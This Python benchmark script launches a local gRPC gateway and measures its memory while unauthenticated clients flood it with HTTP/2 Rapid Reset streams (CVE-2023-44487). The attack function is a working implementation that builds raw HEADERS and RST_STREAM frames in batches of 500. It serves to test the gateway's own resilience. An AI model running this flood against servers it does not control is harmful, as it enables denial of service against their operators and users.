#!/usr/bin/env python3
"""rapid_reset_bench.py [BINARY]: how much memory strangers cost who open and reset HTTP/2 streams (CVE-2023-44487).

Starts a gateway over a new SQLite file that asks for passwords, and lets 1, 4 and 8 clients that never log in send
such streams for four seconds, to a method, to one that does not exist, and to the health check. Prints the
gateway's memory before, and at its peak.
"""
import os
import re
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

BINARY = os.path.abspath(sys.argv[1] if len(sys.argv) > 1 else "build/release/server/sluice")
SECONDS = 4
STREAMS = 500  # in one send


def frame(kind, flags, stream, body):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def attack(port, path, end):
    """Opens connections, one after the other, and streams on them, until `end`."""
    first = (b"\x83\x86\x44" + bytes([len(path)]) + path + b"\x41\x01a\x40\x02te\x08trailers\x5f\x10application/grpc")
    later = b"\x83\x86\xc1\xc0\xbf\xbe"  # the same headers, by HPACK's dynamic table
    while time.time() < end:
        try:
            with socket.create_connection(("127.0.0.1", port)) as connection:
                connection.settimeout(2)
                connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
                stream = 1
                while time.time() < end:
                    frames = b""
                    for _ in range(STREAMS):
                        frames += frame(1, 4, stream, first if stream == 1 else later)
                        frames += frame(3, 0, stream, b"\0\0\0\x08")
                        stream += 2
                    connection.sendall(frames)
        except OSError:
            pass  # the gateway has disconnected it


def megabytes(pid):
    with open(f"/proc/{pid}/status", encoding="utf8") as status:
        return int(re.search(r"VmRSS:\s+(\d+)", status.read()).group(1)) / 1024


def measure(folder, path, clients):
    gateway = subprocess.Popen(
        [BINARY, "serve", "--source", f"sqlite:{folder}/x.db", "--grpc", "127.0.0.1:0", "--auth", "scram",
         "--password-file", f"{folder}/users"], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL, text=True)
    try:
        port = int(next(line for line in gateway.stdout if line.startswith("gRPC on")).rsplit(":", 1)[1])
        before = peak = megabytes(gateway.pid)
        end = time.time() + SECONDS
        threads = [threading.Thread(target=attack, args=(port, path, end)) for _ in range(clients)]
        for thread in threads:
            thread.start()
        while time.time() < end:
            time.sleep(0.05)
            peak = max(peak, megabytes(gateway.pid))
        for thread in threads:
            thread.join()
        print(f"{path.decode():<30} {clients} clients: {before:4.0f} MB before, {peak:4.0f} MB at the peak", flush=True)
    finally:
        gateway.send_signal(signal.SIGTERM)
        gateway.wait(30)


def main():
    with tempfile.TemporaryDirectory() as folder:
        subprocess.run([BINARY, "password", "--password-file", f"{folder}/users", "ann"], input="right\n", text=True,
                       check=True, stderr=subprocess.DEVNULL)
        for path in (b"/sluice.v1.Gateway/Run", b"/no/Such", b"/grpc.health.v1.Health/Check"):
            for clients in (1, 4, 8):
                measure(folder, path, clients)


if __name__ == "__main__":
    main()
